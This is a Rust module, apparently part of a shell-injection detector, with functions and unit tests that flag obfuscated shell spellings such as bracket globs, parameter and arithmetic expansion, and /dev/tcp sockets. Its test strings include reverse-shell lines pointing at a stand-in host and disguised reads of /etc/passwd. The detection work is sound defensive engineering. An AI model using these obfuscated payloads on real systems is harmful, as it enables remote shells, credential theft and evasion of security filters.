//! Shell expansions that only a shell gives meaning to, used to build commands and paths
//! without spelling them: bracket globs in system paths (`/bi[n]/ba[s]h`), parameter
//! expansion operators (`${PATH:0:1}`, `${x#{}}`), arithmetic (`$((1+1))`, `$[1+1]`),
//! `/dev/tcp` sockets reached through a variable (`$d/tcp/10.0.0.1/4444`), history
//! (`!-2`) and directory-stack tildes (`~+`, `~-1`).

/// First segments of absolute paths that name system locations.
const SYSTEM_DIRS: &[&str] = &["etc", "bin", "sbin", "usr", "dev", "proc", "tmp", "var", "root", "home", "opt", "lib", "sys", "boot"];

/// Offset of a path spelt with bracket globs that each match one character (`/[e]tc/pa[s]swd`,
/// `/bi[n]/bash`, `/[e//]tc`), resolving to a system location or a command.
pub(super) fn bracket_glob_path(s: &[u8]) -> Option<usize> {
    let mut from = 0;
    let mut tries = 0;
    while let Some(open) = s.get(from..).and_then(|r| memchr::memchr(b'[', r)).map(|o| o + from) {
        from = open + 1;
        tries += 1;
        if tries > 16 {
            break;
        }
        if !matches!(super::bracket_glob(s, open), Some((c, _)) if c != b'?') {
            continue;
        }
        // Back to the start of the path word.
        let mut start = open;
        while start > 0 && s.get(start - 1).is_some_and(|&c| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'[' | b']' | b'_' | b'-' | b'.')) {
            start -= 1;
        }
        if s.get(start) != Some(&b'/') {
            continue;
        }
        let (word, _) = super::read_word(s, start);
        let segs: Vec<&str> = word.split('/').filter(|x| !x.is_empty()).collect();
        let Some(first) = segs.first() else { continue };
        let last = segs.last().copied().unwrap_or_default();
        if SYSTEM_DIRS.contains(first) || super::is_strong(last) {
            return Some(start);
        }
    }
    None
}

/// Offset of a parameter expansion with an operator (`${PATH:0:1}`, `${x#{}}`,
/// `${HOME%/*}`, `${x//a/b}`, `${x:-id}`) or a length/indirection (`${#x}`, `${!x}`):
/// string surgery that builds a command or a `/` without writing it. (Plain `${name}` is
/// also template syntax and does not count.)
pub(super) fn parameter_expansion(s: &[u8]) -> Option<usize> {
    let mut from = 0;
    let mut tries = 0;
    while let Some(at) = s.get(from..).and_then(|r| memchr::memmem::find(r, b"${")).map(|o| o + from) {
        from = at + 2;
        tries += 1;
        if tries > 16 {
            break;
        }
        let mut j = at + 2;
        let prefix = matches!(s.get(j), Some(b'#' | b'!'));
        if prefix {
            j += 1;
        }
        let name_start = j;
        if s.get(j).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') {
            while s.get(j).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_') {
                j += 1;
            }
        } else if s.get(j).is_some_and(|c| c.is_ascii_digit() || matches!(c, b'@' | b'*')) {
            j += 1;
        }
        if j == name_start || j - name_start > 32 {
            continue;
        }
        let op = s.get(j).copied();
        let ok = match op {
            Some(b'}') => prefix,
            Some(b'#' | b'%' | b'/' | b'^' | b',') => !prefix,
            // `${x:-w}`, `${x:=w}`, `${x:+w}`, `${x:?w}`, `${PATH:0:1}` (not `${env:HOME}`).
            Some(b':') => !prefix && s.get(j + 1).is_some_and(|c| c.is_ascii_digit() || matches!(c, b'-' | b'=' | b'+' | b'?' | b' ')),
            _ => false,
        };
        if !ok {
            continue;
        }
        // The closing brace (one nested `{}` allowed), with no blank-separated prose inside.
        let mut depth = 0u8;
        let mut k = j;
        let mut closed = false;
        while let Some(&c) = s.get(k) {
            if k - j > 64 {
                break;
            }
            match c {
                b'{' => depth = depth.saturating_add(1),
                b'}' if depth == 0 => {
                    closed = true;
                    break;
                }
                b'}' => depth -= 1,
                b'\n' | b'\r' => break,
                _ => {}
            }
            k += 1;
        }
        if closed {
            return Some(at);
        }
    }
    None
}

/// Offset of an arithmetic expansion: `$((…))` or the old `$[…]`, with arithmetic inside
/// (digits, operators, variables, nested `$()`), possibly empty.
pub(super) fn arithmetic_expansion(s: &[u8]) -> Option<usize> {
    let arith = |b: &[u8]| b.iter().all(|c| c.is_ascii_alphanumeric() || b" \t+-*/%()<>=!&|^~?:,$_".contains(c));
    if let Some(at) = memchr::memmem::find(s, b"$((") {
        let inner = s.get(at + 3..).unwrap_or_default();
        let inner = inner.get(..inner.len().min(96)).unwrap_or_default();
        if let Some(end) = memchr::memmem::find(inner, b"))") {
            if inner.get(..end).is_some_and(arith) {
                return Some(at);
            }
        }
    }
    let mut from = 0;
    while let Some(at) = s.get(from..).and_then(|r| memchr::memmem::find(r, b"$[")).map(|o| o + from) {
        from = at + 2;
        let inner = s.get(at + 2..).unwrap_or_default();
        let Some(end) = inner.iter().take(64).position(|&c| c == b']') else { continue };
        let body = inner.get(..end).unwrap_or_default();
        // `$[2+2]`, `$[]`, `$[$x*3]`; not a JSONPath index (`$[0]`, `$['a']`).
        let op = body.iter().any(|c| b"+-*/%<>=!&|^".contains(c));
        let operand = body.iter().any(|c| c.is_ascii_alphanumeric() || *c == b'$');
        if arith(body) && (body.is_empty() || op && operand) {
            return Some(at);
        }
    }
    None
}

/// Offset of a bash network redirection target: `/dev/tcp/HOST/PORT` with `/dev` spelt
/// through a variable (`$d/tcp/…`, `${D}/udp/…`) or behind a redirection (`>…/tcp/…`).
pub(super) fn dev_socket(s: &[u8]) -> Option<usize> {
    let mut from = 0;
    let mut tries = 0;
    while let Some(at) = s.get(from..).and_then(|r| memchr::memchr(b'/', r)).map(|o| o + from) {
        from = at + 1;
        let seg = s.get(at + 1..at + 5).unwrap_or_default();
        if !(seg.eq_ignore_ascii_case(b"tcp/") || seg.eq_ignore_ascii_case(b"udp/")) {
            continue;
        }
        tries += 1;
        if tries > 8 {
            break;
        }
        // HOST/PORT.
        let rest = s.get(at + 5..).unwrap_or_default();
        let host = rest.iter().take(64).take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b':')).count();
        let port = rest.get(host + 1..).map_or(0, |r| r.iter().take(6).take_while(|c| c.is_ascii_digit()).count());
        if host == 0 || rest.get(host) != Some(&b'/') || port == 0 {
            continue;
        }
        // What spells `/dev`: a variable, or a redirection right before.
        let before = s.get(..at).unwrap_or_default();
        let var = before.ends_with(b"}") && before.iter().rev().take(24).any(|&c| c == b'$')
            || {
                let n = before.iter().rev().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
                n > 0 && before.len() > n && before.get(before.len() - n - 1) == Some(&b'$')
            };
        let redirect = before.iter().rev().take(24).any(|&c| c == b'>' || c == b'<');
        if var || redirect {
            return Some(at.saturating_sub(8));
        }
    }
    None
}

/// Offset of history expansion by relative position (`!-1`, `!-2!-1`) opening the value or
/// following a separator: re-running earlier commands.
pub(super) fn history_expansion(s: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(at) = s.get(from..).and_then(|r| memchr::memmem::find(r, b"!-")).map(|o| o + from) {
        from = at + 2;
        if !s.get(at + 2).is_some_and(u8::is_ascii_digit) {
            continue;
        }
        let digits = s.get(at + 2..).map_or(0, |r| r.iter().take_while(|c| c.is_ascii_digit()).count());
        let after = s.get(at + 2 + digits).copied();
        let before = s.get(..at).unwrap_or_default().iter().rev().find(|c| !matches!(c, b' ' | b'\t')).copied();
        let opens = matches!(before, None | Some(b';' | b'|' | b'&' | b'`' | b'(' | b'\n'));
        let ends = matches!(after, None | Some(b'!' | b';' | b'|' | b'&' | b' ' | b'\n' | b':'));
        if opens && ends {
            return Some(at);
        }
    }
    None
}

/// Offset of a directory-stack tilde (`~+`, `~-`, `~+2`, `~-1`) as a whole value or the
/// start of a path (`~+/../etc`): bash's spelling of `$PWD`/`$OLDPWD`.
pub(super) fn tilde_expansion(s: &[u8]) -> Option<usize> {
    let t = s.iter().position(|c| !c.is_ascii_whitespace()).and_then(|k| s.get(k..)).unwrap_or_default();
    let mut from = 0;
    while let Some(at) = t.get(from..).and_then(|r| memchr::memchr(b'~', r)).map(|o| o + from) {
        from = at + 1;
        if !matches!(t.get(at + 1), Some(b'+' | b'-')) {
            continue;
        }
        let prev = if at == 0 { None } else { t.get(at - 1).copied() };
        if !matches!(prev, None | Some(b' ' | b'\t' | b';' | b'|' | b'&' | b'=' | b'(' | b'`')) {
            continue;
        }
        let digits = t.get(at + 2..).map_or(0, |r| r.iter().take_while(|c| c.is_ascii_digit()).count());
        let next = t.get(at + 2 + digits).copied();
        let whole = at == 0 && t.get(at + 2 + digits..).is_some_and(|r| r.iter().all(|c| c.is_ascii_whitespace()));
        if whole || next == Some(b'/') {
            return Some(at);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn expansions() {
        for a in ["cat /etc/pa[s]swd", "/bi[n]/bash", "x /[e]tc/hosts", "/[e///]tc", "cat /[e//]tc/[p//]asswd", "/usr/bin/[w]get"] {
            assert!(bracket_glob_path(a.as_bytes()).is_some(), "{a}");
        }
        for b in ["/api/items[x]", "/a/b[0]", "arr[i]", "/docs/[draft]/x", "/static/img[1].png", "[x] done"] {
            assert!(bracket_glob_path(b.as_bytes()).is_none(), "{b}");
        }
        for a in ["${x#{}}", "${PATH#{}/}", "${PATH:0:1}", "${HOME%/*}", "${x//a/b}", "${x:-id}", "${#str}", "${!ref}", "${@:2}", "${PWD^^}"] {
            assert!(parameter_expansion(a.as_bytes()).is_some(), "{a}");
        }
        for b in ["${name}", "${user.name}", "${env:HOME}", "${jndi:ldap://x}", "price ${amount}", "${a + b}", "${", "${x#"] {
            assert!(parameter_expansion(b.as_bytes()).is_none(), "{b}");
        }
        for a in ["$[2+2]", "$[]", "$[$x*3]", "$((1+2))", "$(($()42))", "$((7))z"] {
            assert!(arithmetic_expansion(a.as_bytes()).is_some(), "{a}");
        }
        for b in ["$[0]", "$['a']", "$[*].name", "costs $(( a lot of money", "$((\"x\"))"] {
            assert!(arithmetic_expansion(b.as_bytes()).is_none(), "{b}");
        }
        for a in ["d=/dev&&(sh)0>$d/tcp/10.1.2.3/777", "bash -i >& ${D}/udp/evil.example/53 0>&1", "exec 5<>/x/tcp/h.example/80"] {
            assert!(dev_socket(a.as_bytes()).is_some(), "{a}");
        }
        for b in ["/api/tcp/10.0.0.1/80", "/net/udp/ports", "see /tcp/ for docs"] {
            assert!(dev_socket(b.as_bytes()).is_none(), "{b}");
        }
        for a in ["!-1!-2", "x;!-3", "!-2"] {
            assert!(history_expansion(a.as_bytes()).is_some(), "{a}");
        }
        for b in ["wow!-1 point", "a!-2", "!-x"] {
            assert!(history_expansion(b.as_bytes()).is_none(), "{b}");
        }
        for a in ["~+", "~-", "~-1", "~+5", "cat ~+/../etc/passwd"] {
            assert!(tilde_expansion(a.as_bytes()).is_some(), "{a}");
        }
        for b in ["~+~", "a~-b", "~~", "temp ~-5 C today", "~user/x"] {
            assert!(tilde_expansion(b.as_bytes()).is_none(), "{b}");
        }
    }
}
